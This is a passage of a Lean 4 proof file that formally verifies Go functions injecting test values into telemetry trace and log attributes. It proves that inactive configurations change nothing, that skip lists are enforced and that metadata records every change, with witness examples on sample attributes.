        simpa using hf
      simp only [applyAggroToLogAttributes, List.nil_append, hav, hfi]
      simp [ht, hf']

theorem logPhase_spec {α : Type} (values : List GoString) (name target : GoString)
    (active : Bool) (skipKeys : List GoString) (s : LogResult α) (hv : values ≠ []) :
    ∃ k v,
      (decide (active = true ∧
          (target = [] ∨ target ∈ lit "message" :: availableTraceKeys s.attrs skipKeys)) = true →
        k ∈ lit "message" :: availableTraceKeys s.attrs skipKeys ∧ (target ≠ [] → k = target) ∧
        v ∈ values) ∧
      ((logPhase values name target active skipKeys s).attrs,
        (logPhase values name target active skipKeys s).message) =
        (if decide (active = true ∧
          (target = [] ∨ target ∈ lit "message" :: availableTraceKeys s.attrs skipKeys)) then
          logInject k v (s.attrs, s.message) else (s.attrs, s.message)) ∧
      (logPhase values name target active skipKeys s).metadata =
        s.metadata ++ (if decide (active = true ∧
          (target = [] ∨ target ∈ lit "message" :: availableTraceKeys s.attrs skipKeys)) then
          [otellogString name k] else []) := by
  have hlen : values.length > 0 := List.length_pos.mpr hv
  cases active with
  | false => exact ⟨[], [], by simp [logPhase]⟩
  | true =>
    obtain ⟨k, v, hm, hk, ha, hmem⟩ :=
      applyAggroToLogAttributes_spec s.attrs s.message values target skipKeys s.rng hv
    refine ⟨k, v, ?_⟩
    cases hmod : (applyAggroToLogAttributes s.attrs s.message values target skipKeys
        s.rng).modified with
    | false =>
      rw [hmod] at hm hk ha
      have hd : ¬ (target = [] ∨ target ∈ lit "message" :: availableTraceKeys s.attrs skipKeys) := by
        intro h
        have := decide_eq_true h
        rw [← hm] at this
        exact Bool.false_ne_true this
      simp only [logPhase, if_true, hlen, hmod, true_and]
      simp only [decide_eq_false hd, Bool.false_eq_true, if_false, false_implies, true_and,
        List.append_nil, and_true]
      simpa using ha
    | true =>
      rw [hmod] at hm hk ha
      have hd : target = [] ∨ target ∈ lit "message" :: availableTraceKeys s.attrs skipKeys :=
        of_decide_eq_true hm.symm
      simp only [logPhase, if_true, hlen, hmod, true_and]
      simp only [decide_eq_true hd, if_true, true_implies]
      simp only [if_true] at hk ha
      exact ⟨hmem hmod, ha, by rw [hk]⟩

theorem logPhase_keysOf {α : Type} (values : List GoString) (name target : GoString)
    (active : Bool) (skipKeys : List GoString) (s : LogResult α) (hv : values ≠ []) :
    keysOf (logPhase values name target active skipKeys s).attrs = keysOf s.attrs := by
  obtain ⟨k, v, _, ha, _⟩ := logPhase_spec values name target active skipKeys s hv
  have h1 := congrArg Prod.fst ha
  simp only at h1
  rw [h1]
  split
  · exact logInject_keysOf k v (s.attrs, s.message)
  · rfl

/-- The public log method is its three category blocks in sequence. -/
theorem ApplyAggroToLogAttributes_eq_phases {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g =
      logPhase (categoryValues env protocol .timestamp) Category.timestamp.metaKey
        (config.target .timestamp) (config.active .timestamp) skipKeys
        (logPhase (categoryValues env protocol .numeric) Category.numeric.metaKey
          (config.target .numeric) (config.active .numeric) skipKeys
          (logPhase (categoryValues env protocol .string) Category.string.metaKey
            (config.target .string) (config.active .string) skipKeys
            ⟨attrs, logMessage, [], g⟩)) := by
  have hts : appendTimestampValues env [] (GetAggroTimestamps env) =
      categoryValues env protocol .timestamp := by
    rw [appendTimestampValues_eq]; simp [categoryValues]
  have hstr : (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
      else GetAggroStrings env) = categoryValues env protocol .string := rfl
  have hnum : GetAggroNumerics env = categoryValues env protocol .numeric := rfl
  unfold ApplyAggroToLogAttributes
  simp only [hts, hstr, hnum]
  cases hS : config.StringActive <;> cases hN : config.NumericActive <;>
    cases hT : config.TimestampActive <;>
    simp [AggroConfig.HasAnyActive, AggroConfig.active, AggroConfig.target, logPhase, hS, hN, hT,
      Category.metaKey]

/-- What a call of `ApplyAggroToLogAttributes` does, in one statement: there are
a target `k c` and a value `v c` for every category such that the metadata
lists the targets of the categories that fire, in processing order, and the
record is the input with the values of those categories injected one after the
other. -/
theorem log_master {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    ∃ k v : Category → GoString,
      (∀ c, logFires config (availableTraceKeys attrs skipKeys) c = true →
        k c ∈ lit "message" :: availableTraceKeys attrs skipKeys ∧
        (config.target c ≠ [] → k c = config.target c) ∧
        v c ∈ categoryValues env protocol c) ∧
      (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).metadata =
        (Category.order.filter (logFires config (availableTraceKeys attrs skipKeys))).map
          (fun c => otellogString c.metaKey (k c)) ∧
      ((ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs,
        (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).message) =
        (Category.order.filter (logFires config (availableTraceKeys attrs skipKeys))).foldl
          (fun r c => logInject (k c) (v c) r) (attrs, logMessage) := by
  rw [ApplyAggroToLogAttributes_eq_phases]
  have hv := categoryValues_ne_nil env protocol
  generalize hs0 : (⟨attrs, logMessage, [], g⟩ : LogResult α) = s0
  have h0a : s0.attrs = attrs := by rw [← hs0]
  have h0g : s0.message = logMessage := by rw [← hs0]
  have h0m : s0.metadata = [] := by rw [← hs0]
  generalize hs1 : logPhase (categoryValues env protocol .string) Category.string.metaKey
    (config.target .string) (config.active .string) skipKeys s0 = s1
  generalize hs2 : logPhase (categoryValues env protocol .numeric) Category.numeric.metaKey
    (config.target .numeric) (config.active .numeric) skipKeys s1 = s2
  have hk1 : keysOf s1.attrs = keysOf attrs := by
    rw [← hs1, logPhase_keysOf _ _ _ _ _ _ (hv _), h0a]
  have hk2 : keysOf s2.attrs = keysOf attrs := by
    rw [← hs2, logPhase_keysOf _ _ _ _ _ _ (hv _), hk1]
  have hav0 : availableTraceKeys s0.attrs skipKeys = availableTraceKeys attrs skipKeys := by
    rw [h0a]
  have hav1 := availableTraceKeys_congr s1.attrs attrs skipKeys hk1
  have hav2 := availableTraceKeys_congr s2.attrs attrs skipKeys hk2
  obtain ⟨k1, v1, hc1, ha1, hm1⟩ := logPhase_spec (categoryValues env protocol .string)
    Category.string.metaKey (config.target .string) (config.active .string) skipKeys s0 (hv _)
  obtain ⟨k2, v2, hc2, ha2, hm2⟩ := logPhase_spec (categoryValues env protocol .numeric)
    Category.numeric.metaKey (config.target .numeric) (config.active .numeric) skipKeys s1 (hv _)
  obtain ⟨k3, v3, hc3, ha3, hm3⟩ := logPhase_spec (categoryValues env protocol .timestamp)
    Category.timestamp.metaKey (config.target .timestamp) (config.active .timestamp) skipKeys s2
    (hv _)
  rw [hs1] at ha1 hm1
  rw [hs2] at ha2 hm2
  rw [hav0] at hc1 ha1 hm1
  rw [hav1] at hc2 ha2 hm2
  rw [hav2] at hc3 ha3 hm3
  rw [h0a, h0g] at ha1
  rw [h0m] at hm1
  have e1 : decide (config.active .string = true ∧
      (config.target .string = [] ∨
        config.target .string ∈ lit "message" :: availableTraceKeys attrs skipKeys)) =
      logFires config (availableTraceKeys attrs skipKeys) .string := rfl
  have e2 : decide (config.active .numeric = true ∧
      (config.target .numeric = [] ∨
        config.target .numeric ∈ lit "message" :: availableTraceKeys attrs skipKeys)) =
      logFires config (availableTraceKeys attrs skipKeys) .numeric := rfl
  have e3 : decide (config.active .timestamp = true ∧
      (config.target .timestamp = [] ∨
        config.target .timestamp ∈ lit "message" :: availableTraceKeys attrs skipKeys)) =
      logFires config (availableTraceKeys attrs skipKeys) .timestamp := rfl
  rw [e1] at hc1 ha1 hm1
  rw [e2] at hc2 ha2 hm2
  rw [e3] at hc3 ha3 hm3
  refine ⟨fun c => match c with | .string => k1 | .numeric => k2 | .timestamp => k3,
    fun c => match c with | .string => v1 | .numeric => v2 | .timestamp => v3, ?_, ?_, ?_⟩
  · intro c hc
    cases c with
    | string => exact hc1 hc
    | numeric => exact hc2 hc
    | timestamp => exact hc3 hc
  · rw [hm3, hm2, hm1]
    simp only [Category.order, List.filter_cons, List.filter_nil]
    cases logFires config (availableTraceKeys attrs skipKeys) .string <;>
      cases logFires config (availableTraceKeys attrs skipKeys) .numeric <;>
      cases logFires config (availableTraceKeys attrs skipKeys) .timestamp <;>
      simp
  · rw [ha3, ha2, ha1]
    simp only [Category.order, List.filter_cons, List.filter_nil]
    cases logFires config (availableTraceKeys attrs skipKeys) .string <;>
      cases logFires config (availableTraceKeys attrs skipKeys) .numeric <;>
      cases logFires config (availableTraceKeys attrs skipKeys) .timestamp <;>
      simp

/-! ## Lemmas: a sequence of injections -/

theorem keysOf_length {α : Type} (a b : List (KeyValue α)) (h : keysOf a = keysOf b) :
    a.length = b.length := by
  have := congrArg List.length h
  simpa [keysOf] using this

theorem foldl_replace_keysOf {α : Type} (k v : Category → GoString) (cs : List Category)
    (attrs : List (KeyValue α)) :
    keysOf (cs.foldl (fun l c => replaceTraceValue (k c) (v c) l) attrs) = keysOf attrs := by
  induction cs generalizing attrs with
  | nil => rfl
  | cons c rest ih => simp only [List.foldl_cons]; rw [ih, keysOf_replaceTraceValue]

/-- A position whose key is the target of none of the injections is unchanged. -/
theorem foldl_replace_getElem? {α : Type} (k v : Category → GoString) (cs : List Category)
    (attrs : List (KeyValue α)) (i : Nat) (a : KeyValue α) (ha : attrs[i]? = some a)
    (hne : ∀ c ∈ cs, a.Key ≠ k c) :
    (cs.foldl (fun l c => replaceTraceValue (k c) (v c) l) attrs)[i]? = some a := by
  induction cs generalizing attrs with
  | nil => simpa using ha
  | cons c rest ih =>
    simp only [List.foldl_cons]
    apply ih
    · exact replaceTraceValue_getElem? (k c) (v c) attrs i a ha (hne c (by simp))
    · intro d hd; exact hne d (by simp [hd])

theorem foldl_logInject_keysOf {α : Type} (k v : Category → GoString) (cs : List Category)
    (r : List (KeyValue α) × GoString) :
    keysOf (cs.foldl (fun r c => logInject (k c) (v c) r) r).1 = keysOf r.1 := by
  induction cs generalizing r with
  | nil => rfl
  | cons c rest ih => simp only [List.foldl_cons]; rw [ih, logInject_keysOf]

/-- On a log record, a position is unchanged when every injection goes to the
message or to another key. -/
theorem foldl_logInject_getElem? {α : Type} (k v : Category → GoString) (cs : List Category)
    (r : List (KeyValue α) × GoString) (i : Nat) (a : KeyValue α) (ha : r.1[i]? = some a)
    (hne : ∀ c ∈ cs, k c = lit "message" ∨ a.Key ≠ k c) :
    (cs.foldl (fun r c => logInject (k c) (v c) r) r).1[i]? = some a := by
  induction cs generalizing r with
  | nil => simpa using ha
  | cons c rest ih =>
    simp only [List.foldl_cons]
    apply ih
    · unfold logInject
      split
      · exact ha
      · rename_i hm
        rw [replaceLogValue_eq]
        rcases hne c (by simp) with h | h
        · exact absurd h hm
        · exact replaceTraceValue_getElem? (k c) (v c) r.1 i a ha h
    · intro d hd; exact hne d (by simp [hd])

/-- On a log record, the message is unchanged when no injection goes to it. -/
theorem foldl_logInject_message {α : Type} (k v : Category → GoString) (cs : List Category)
    (r : List (KeyValue α) × GoString) (hne : ∀ c ∈ cs, k c ≠ lit "message") :
    (cs.foldl (fun r c => logInject (k c) (v c) r) r).2 = r.2 := by
  induction cs generalizing r with
  | nil => rfl
  | cons c rest ih =>
    simp only [List.foldl_cons]
    rw [ih _ (fun d hd => hne d (by simp [hd]))]
    simp [logInject, hne c (by simp)]

/-! ## Lemmas: the metadata list -/

theorem metaKey_injective (c d : Category) (h : c.metaKey = d.metaKey) : c = d := by
  revert h
  cases c <;> cases d <;> decide

/-- When at most the category `c` passes a test, the categories that pass are
`c` or none. -/
theorem filter_order_single (f : Category → Bool) (c : Category)
    (h : ∀ d, d ≠ c → f d = false) :
    Category.order.filter f = if f c then [c] else [] := by
  cases c with
  | string =>
    have h2 := h .numeric (by decide)
    have h3 := h .timestamp (by decide)
    cases hf : f .string <;> simp [Category.order, List.filter_cons, h2, h3, hf]
  | numeric =>
    have h1 := h .string (by decide)
    have h3 := h .timestamp (by decide)
    cases hf : f .numeric <;> simp [Category.order, List.filter_cons, h1, h3, hf]
  | timestamp =>
    have h1 := h .string (by decide)
    have h2 := h .numeric (by decide)
    cases hf : f .timestamp <;> simp [Category.order, List.filter_cons, h1, h2, hf]

/-- The entries of a category in a metadata list that has one entry per
category that passes a test. -/
theorem entriesFor_metadata {α : Type} (k : Category → GoString) (f : Category → Bool)
    (c : Category) :
    entriesFor c.metaKey ((Category.order.filter f).map
        (fun d => (attributeString d.metaKey (k d) : KeyValue α))) =
      if f c = true then [attributeString c.metaKey (k c)] else [] := by
  have e1 : lit "aggro.string" ≠ lit "aggro.numeric" := by decide
  have e2 : lit "aggro.string" ≠ lit "aggro.timestamp" := by decide
  have e3 : lit "aggro.numeric" ≠ lit "aggro.timestamp" := by decide
  have e4 : lit "aggro.numeric" ≠ lit "aggro.string" := by decide
  have e5 : lit "aggro.timestamp" ≠ lit "aggro.string" := by decide
  have e6 : lit "aggro.timestamp" ≠ lit "aggro.numeric" := by decide
  cases c <;> cases h1 : f .string <;> cases h2 : f .numeric <;> cases h3 : f .timestamp <;>
    simp [entriesFor, Category.order, List.filter_cons, h1, h2, h3, attributeString,
      Category.metaKey, e1, e2, e3, e4, e5, e6]

theorem order_nodup : Category.order.Nodup := by decide

theorem mem_order (c : Category) : c ∈ Category.order := by
  cases c <;> decide

/-! ## Theorems -/

/-- C1. When StringActive, NumericActive and TimestampActive are all false,
whatever the three targets are, `ApplyAggroToTraceAttributes` returns the input
attributes with empty metadata, and `ApplyAggroToLogAttributes` returns the
input attributes and the input message with empty metadata. -/
theorem inactive_config_changes_nothing {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng)
    (hs : config.StringActive = false) (hn : config.NumericActive = false)
    (ht : config.TimestampActive = false) :
    (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs = attrs ∧
    (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata = [] ∧
    (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs = attrs ∧
    (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).message =
      logMessage ∧
    (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).metadata = [] := by
  simp [ApplyAggroToTraceAttributes, ApplyAggroToLogAttributes, AggroConfig.HasAnyActive, hs, hn, ht]

/-- C1 on the trace and log scenario of the specification, with three targets
set and no category active. -/
theorem inactive_config_changes_nothing_witness :
    (ApplyAggroToTraceAttributes sampleEnv
        ⟨lit "fake.attr.1", lit "fake.attr.2", lit "message", false, false, false⟩
        sampleAttrs [lit "http.method"] (lit "grpc") (constRng 5)).attrs = sampleAttrs ∧
    (ApplyAggroToTraceAttributes sampleEnv
        ⟨lit "fake.attr.1", lit "fake.attr.2", lit "message", false, false, false⟩
        sampleAttrs [lit "http.method"] (lit "grpc") (constRng 5)).metadata = [] ∧
    (ApplyAggroToLogAttributes sampleEnv
        ⟨lit "fake.attr.1", lit "fake.attr.2", lit "message", false, false, false⟩
        sampleAttrs (lit "example-log-1") [lit "http.method"] (lit "grpc") (constRng 5)).attrs =
      sampleAttrs ∧
    (ApplyAggroToLogAttributes sampleEnv
        ⟨lit "fake.attr.1", lit "fake.attr.2", lit "message", false, false, false⟩
        sampleAttrs (lit "example-log-1") [lit "http.method"] (lit "grpc") (constRng 5)).message =
      lit "example-log-1" ∧
    (ApplyAggroToLogAttributes sampleEnv
        ⟨lit "fake.attr.1", lit "fake.attr.2", lit "message", false, false, false⟩
        sampleAttrs (lit "example-log-1") [lit "http.method"] (lit "grpc") (constRng 5)).metadata =
      [] :=
  inactive_config_changes_nothing sampleEnv
    ⟨lit "fake.attr.1", lit "fake.attr.2", lit "message", false, false, false⟩
    sampleAttrs (lit "example-log-1") [lit "http.method"] (lit "grpc") (constRng 5) rfl rfl rfl

theorem mem_categoryValues_timestamp {T : Type} (env : Env T) (protocol v : GoString) :
    v ∈ categoryValues env protocol .timestamp ↔
      ∃ ts ∈ GetAggroTimestamps env,
        v = env.time.FormatRFC3339 ts ∨ v = FormatInt (env.time.ToUnix ts) := by
  simp [categoryValues, List.mem_flatten]

theorem onlyActive_fires_false (config : AggroConfig) (c d : Category)
    (hone : config.onlyActive c) (hd : d ≠ c) (avail : List GoString) :
    traceFires config avail d = false ∧ logFires config avail d = false := by
  have : config.active d = false := by
    cases h : config.active d with
    | false => rfl
    | true => exact absurd ((hone d).mp h) hd
  simp [traceFires, logFires, this]

/-- C2. With exactly one category active (random or explicit target), for every
outcome of the random choices: if the metadata of `ApplyAggroToTraceAttributes`
reports the key `k`, then `k` is the key of an input attribute, and the output
is the input list with the first position that holds the key `k` set to the
string attribute `(k, v)`, where `v` is one of the values of the category (the
string corpus, sanitized entry by entry under "grpc"; the numeric corpus; the
RFC 3339 and Unix-seconds forms of the timestamps). Every other position is
untouched. -/
theorem single_category_rewrites_reported_key {T α : Type} (env : Env T)
    (config : AggroConfig) (attrs : List (KeyValue α)) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) (c : Category) (k : GoString)
    (hone : config.onlyActive c)
    (hk : Reports (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata k) :
    ∃ i a v, attrs[i]? = some a ∧ a.Key = k ∧
      (∀ j b, j < i → attrs[j]? = some b → b.Key ≠ k) ∧
      v ∈ categoryValues env protocol c ∧
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs =
        attrs.set i ⟨k, Value.string v⟩ := by
  obtain ⟨kf, vf, hc, hm, ha⟩ := trace_master env config attrs skipKeys protocol g
  have hfil := filter_order_single (traceFires config (availableTraceKeys attrs skipKeys)) c
    (fun d hd => (onlyActive_fires_false config c d hone hd _).1)
  rw [hfil] at hm ha
  cases hf : traceFires config (availableTraceKeys attrs skipKeys) c with
  | false =>
    rw [hf] at hm
    simp only [Bool.false_eq_true, if_false, List.map_nil] at hm
    obtain ⟨kv, hkv, _⟩ := hk
    rw [hm] at hkv
    simp at hkv
  | true =>
    rw [hf] at hm ha
    simp only [if_true, List.map_cons, List.map_nil, List.foldl_cons, List.foldl_nil] at hm ha
    obtain ⟨hmem, _, hv⟩ := hc c hf
    obtain ⟨kv, hkv, hval⟩ := hk
    rw [hm] at hkv
    simp only [List.mem_singleton] at hkv
    subst hkv
    simp only [attributeString, Value.string.injEq] at hval
    subst hval
    have hkeys := ((mem_availableTraceKeys attrs skipKeys (kf c)).mp hmem).1
    obtain ⟨i, a, h1, h2, h3, h4⟩ := replaceTraceValue_eq_set (kf c) (vf c) attrs hkeys
    exact ⟨i, a, vf c, h1, h2, h3, hv, by rw [ha, h4]⟩

theorem configOnly_onlyActive (c : Category) (target : GoString) :
    (configOnly c target).onlyActive c := by
  intro d
  cases c <;> cases d <;> simp [configOnly, AggroConfig.active]

/-- C2 on the end-to-end scenario of the specification: the string category
with the explicit target "fake.attr.2". -/
theorem single_category_rewrites_reported_key_witness :
    (configOnly .string (lit "fake.attr.2")).onlyActive .string ∧
    Reports (ApplyAggroToTraceAttributes sampleEnv (configOnly .string (lit "fake.attr.2"))
      sampleAttrs [lit "http.method"] (lit "loose") (constRng 7)).metadata (lit "fake.attr.2") ∧
    ∃ i a v, sampleAttrs[i]? = some a ∧ a.Key = lit "fake.attr.2" ∧
      (∀ j b, j < i → sampleAttrs[j]? = some b → b.Key ≠ lit "fake.attr.2") ∧
      v ∈ categoryValues sampleEnv (lit "loose") .string ∧
      (ApplyAggroToTraceAttributes sampleEnv (configOnly .string (lit "fake.attr.2"))
        sampleAttrs [lit "http.method"] (lit "loose") (constRng 7)).attrs =
        sampleAttrs.set i ⟨lit "fake.attr.2", Value.string v⟩ :=
  ⟨configOnly_onlyActive _ _,
   ⟨attributeString (lit "aggro.string") (lit "fake.attr.2"), by decide, rfl⟩,
   single_category_rewrites_reported_key sampleEnv (configOnly .string (lit "fake.attr.2"))
     sampleAttrs [lit "http.method"] (lit "loose") (constRng 7) .string (lit "fake.attr.2")
     (configOnly_onlyActive _ _)
     ⟨attributeString (lit "aggro.string") (lit "fake.attr.2"), by decide, rfl⟩⟩

theorem traceFires_iff (config : AggroConfig) (avail : List GoString) (c : Category) :
    traceFires config avail c = true ↔
      config.active c = true ∧ avail ≠ [] ∧ (config.target c = [] ∨ config.target c ∈ avail) := by
  simp [traceFires]

theorem logFires_iff (config : AggroConfig) (avail : List GoString) (c : Category) :
    logFires config avail c = true ↔
      config.active c = true ∧
        (config.target c = [] ∨ config.target c ∈ lit "message" :: avail) := by
  simp [logFires]

theorem availableTraceKeys_ne_nil {α : Type} (attrs : List (KeyValue α))
    (skipKeys : List GoString) (h : ∃ a ∈ attrs, a.Key ∉ skipKeys) :
    availableTraceKeys attrs skipKeys ≠ [] := by
  obtain ⟨a, hmem, hns⟩ := h
  apply List.ne_nil_of_mem (a := a.Key)
  rw [mem_availableTraceKeys]
  exact ⟨by simp only [keysOf, List.mem_map]; exact ⟨a, hmem, rfl⟩, hns⟩

/-- C5. Skip-list enforcement, for every configuration and every outcome of the
random choices: `ApplyAggroToTraceAttributes` never reports a key of skipKeys
as the value of a metadata entry, and in `ApplyAggroToTraceAttributes` and
`ApplyAggroToLogAttributes` every attribute whose key is in skipKeys is
returned, at its position, as it was given. -/
theorem skip_list_is_enforced {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    (∀ sk ∈ skipKeys,
      ¬ Reports (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata sk) ∧
    (∀ (i : Nat) (a : KeyValue α), attrs[i]? = some a → a.Key ∈ skipKeys →
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs[i]? = some a ∧
      (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs[i]? =
        some a) := by
  obtain ⟨kf, vf, hc, hm, ha⟩ := trace_master env config attrs skipKeys protocol g
  obtain ⟨kl, vl, hcl, _, hal⟩ := log_master env config attrs logMessage skipKeys protocol g
  refine ⟨?_, ?_⟩
  · rintro sk hsk ⟨kv, hkv, hval⟩
    rw [hm] at hkv
    simp only [List.mem_map, List.mem_filter] at hkv
    obtain ⟨c, ⟨_, hf⟩, rfl⟩ := hkv
    simp only [attributeString, Value.string.injEq] at hval
    have := ((mem_availableTraceKeys attrs skipKeys _).mp (hc c hf).1).2
    exact this (hval ▸ hsk)
  · intro i a hia hskip
    constructor
    · rw [ha]
      apply foldl_replace_getElem? kf vf _ attrs i a hia
      intro c hcm heq
      have hf := (List.mem_filter.mp hcm).2
      have := ((mem_availableTraceKeys attrs skipKeys _).mp (hc c hf).1).2
      exact this (heq ▸ hskip)
    · have h1 := congrArg Prod.fst hal
      simp only at h1
      rw [h1]
      apply foldl_logInject_getElem? kl vl _ (attrs, logMessage) i a hia
      intro c hcm
      have hf := (List.mem_filter.mp hcm).2
      rcases List.mem_cons.mp (hcl c hf).1 with h | h
      · exact Or.inl h
      · right
        intro heq
        exact ((mem_availableTraceKeys attrs skipKeys _).mp h).2 (heq ▸ hskip)

/-- C5 on the trace scenario of the specification, where an explicit target
names the skipped key "http.method": the attribute at position 0 is kept. -/
theorem skip_list_is_enforced_witness :
    sampleAttrs[0]? = some ⟨lit "http.method", Value.string (lit "GET")⟩ ∧
    lit "http.method" ∈ [lit "http.method"] ∧
    ¬ Reports (ApplyAggroToTraceAttributes sampleEnv
        ⟨[], lit "http.method", [], true, true, true⟩ sampleAttrs [lit "http.method"]
        (lit "grpc") (listRng [2, 7, 1, 8])).metadata (lit "http.method") ∧
    (ApplyAggroToTraceAttributes sampleEnv
        ⟨[], lit "http.method", [], true, true, true⟩ sampleAttrs [lit "http.method"]
        (lit "grpc") (listRng [2, 7, 1, 8])).attrs[0]? =
      some ⟨lit "http.method", Value.string (lit "GET")⟩ ∧
    (ApplyAggroToLogAttributes sampleEnv
        ⟨[], lit "http.method", [], true, true, true⟩ sampleAttrs (lit "example-log-1")
        [lit "http.method"] (lit "grpc") (listRng [2, 7, 1, 8])).attrs[0]? =
      some ⟨lit "http.method", Value.string (lit "GET")⟩ :=
  ⟨rfl, by decide,
   (skip_list_is_enforced sampleEnv ⟨[], lit "http.method", [], true, true, true⟩ sampleAttrs
      (lit "example-log-1") [lit "http.method"] (lit "grpc") (listRng [2, 7, 1, 8])).1
      (lit "http.method") (by decide),
   (skip_list_is_enforced sampleEnv ⟨[], lit "http.method", [], true, true, true⟩ sampleAttrs
      (lit "example-log-1") [lit "http.method"] (lit "grpc") (listRng [2, 7, 1, 8])).2
      0 ⟨lit "http.method", Value.string (lit "GET")⟩ rfl (by decide)⟩

theorem getElem?_eq_none_of_keysOf {α : Type} (a b : List (KeyValue α))
    (h : keysOf a = keysOf b) (i : Nat) (hi : b[i]? = none) : a[i]? = none := by
  rw [List.getElem?_eq_none_iff] at hi ⊢
  rw [keysOf_length a b h]
  exact hi

/-- C7. The metadata names what was changed, for every call and every outcome of
the random choices: every position at which the attributes returned by
`ApplyAggroToTraceAttributes` or `ApplyAggroToLogAttributes` differ from the
input holds an attribute whose key is the value of some metadata entry, and the
returned log message differs from the input message only if some metadata
entry has the value "message". -/
theorem metadata_names_every_change {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    (∀ i : Nat,
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs[i]? ≠ attrs[i]? →
      ∃ a, attrs[i]? = some a ∧
        Reports (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata
          a.Key) ∧
    (∀ i : Nat,
      (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs[i]? ≠
        attrs[i]? →
      ∃ a, attrs[i]? = some a ∧
        Reports (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
          g).metadata a.Key) ∧
    ((ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).message ≠
        logMessage →
      Reports (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).metadata
        (lit "message")) := by
  obtain ⟨kf, vf, _, hm, ha⟩ := trace_master env config attrs skipKeys protocol g
  obtain ⟨kl, vl, _, hml, hal⟩ := log_master env config attrs logMessage skipKeys protocol g
  have hal1 := congrArg Prod.fst hal
  have hal2 := congrArg Prod.snd hal
  simp only at hal1 hal2
  refine ⟨?_, ?_, ?_⟩
  · intro i hdiff
    cases hia : attrs[i]? with
    | none =>
      exfalso
      apply hdiff
      rw [hia]
      apply getElem?_eq_none_of_keysOf _ attrs _ i hia
      rw [ha]; exact foldl_replace_keysOf kf vf _ attrs
    | some a =>
      refine ⟨a, rfl, ?_⟩
      by_contra hrep
      apply hdiff
      rw [hia, ha]
      apply foldl_replace_getElem? kf vf _ attrs i a hia
      intro c hcm heq
      apply hrep
      refine ⟨attributeString c.metaKey (kf c), ?_, by rw [heq]; rfl⟩
      rw [hm]
      exact List.mem_map.mpr ⟨c, hcm, rfl⟩
  · intro i hdiff
    cases hia : attrs[i]? with
    | none =>
      exfalso
      apply hdiff
      rw [hia]
      apply getElem?_eq_none_of_keysOf _ attrs _ i hia
      rw [hal1]; exact foldl_logInject_keysOf kl vl _ (attrs, logMessage)
    | some a =>
      refine ⟨a, rfl, ?_⟩
      by_contra hrep
      apply hdiff
      rw [hia, hal1]
      apply foldl_logInject_getElem? kl vl _ (attrs, logMessage) i a hia
      intro c hcm
      right
      intro heq
      apply hrep
      refine ⟨otellogString c.metaKey (kl c), ?_, by rw [heq]; rfl⟩
      rw [hml]
      exact List.mem_map.mpr ⟨c, hcm, rfl⟩
  · intro hdiff
    by_contra hrep
    apply hdiff
    rw [hal2]
    apply foldl_logInject_message kl vl _ (attrs, logMessage)
    intro c hcm heq
    apply hrep
    refine ⟨otellogString c.metaKey (kl c), ?_, by rw [heq]; rfl⟩
    rw [hml]
    exact List.mem_map.mpr ⟨c, hcm, rfl⟩

/-- C7 on the log scenario of the specification: the message is replaced, and
"message" is reported. -/
theorem metadata_names_every_change_witness :
    (ApplyAggroToLogAttributes sampleEnv (configOnly .string []) sampleLogAttrs
      (lit "example-log-1") [lit "log.level"] (lit "grpc") (constRng 1)).message ≠
        lit "example-log-1" ∧
    Reports (ApplyAggroToLogAttributes sampleEnv (configOnly .string []) sampleLogAttrs
      (lit "example-log-1") [lit "log.level"] (lit "grpc") (constRng 1)).metadata
        (lit "message") :=
  ⟨by decide,
   (metadata_names_every_change sampleEnv (configOnly .string []) sampleLogAttrs
      (lit "example-log-1") [lit "log.level"] (lit "grpc") (constRng 1)).2.2 (by decide)⟩

theorem metaKeys_of_metadata {α : Type} (k : Category → GoString) (f : Category → Bool) :
    keysOf ((Category.order.filter f).map
        (fun d => (attributeString d.metaKey (k d) : KeyValue α))) =
      (Category.order.filter f).map Category.metaKey := by
  simp [keysOf, attributeString, Function.comp_def]

theorem metaKeys_facts (l : List GoString) (f : Category → Bool)
    (h : l = (Category.order.filter f).map Category.metaKey) :
    l.Sublist [lit "aggro.string", lit "aggro.numeric", lit "aggro.timestamp"] ∧
    l.Nodup ∧ l.length ≤ 3 ∧ (∀ c : Category, c.metaKey ∈ l → f c = true) := by
  have hsub : l.Sublist [lit "aggro.string", lit "aggro.numeric", lit "aggro.timestamp"] := by
    rw [h]
    exact (List.filter_sublist _).map Category.metaKey
  have hnd : [lit "aggro.string", lit "aggro.numeric", lit "aggro.timestamp"].Nodup := by decide
  refine ⟨hsub, hsub.nodup hnd, by simpa using hsub.length_le, ?_⟩
  intro c hc
